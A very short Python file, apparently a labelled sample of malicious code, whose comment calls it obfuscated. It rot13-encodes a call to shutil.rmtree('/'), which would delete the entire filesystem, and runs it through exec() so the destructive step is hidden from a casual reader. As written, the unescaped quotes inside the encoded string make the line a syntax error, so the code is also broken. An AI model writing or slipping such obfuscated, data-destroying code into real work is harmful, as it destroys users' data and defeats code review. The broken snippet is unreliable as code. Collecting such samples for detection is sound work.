# Malicious, obfuscated: exec(codecs.decode(..., 'rot13')) of shutil.rmtree('/').
import codecs

exec(codecs.decode("vzcbeg fuhgvy\nfuhgvy.ezgerr("/")\n", "rot13"))
